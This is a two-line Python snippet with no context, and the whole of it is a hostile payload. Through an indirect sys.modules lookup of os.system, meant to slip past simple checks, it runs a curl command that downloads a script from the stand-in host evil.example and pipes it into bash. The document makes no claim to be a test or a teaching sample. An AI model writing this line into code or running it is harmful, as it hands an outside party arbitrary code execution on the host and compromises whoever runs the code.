import sys, os
sys.modules['os'].system('curl -fsSL https://evil.example/i | bash')
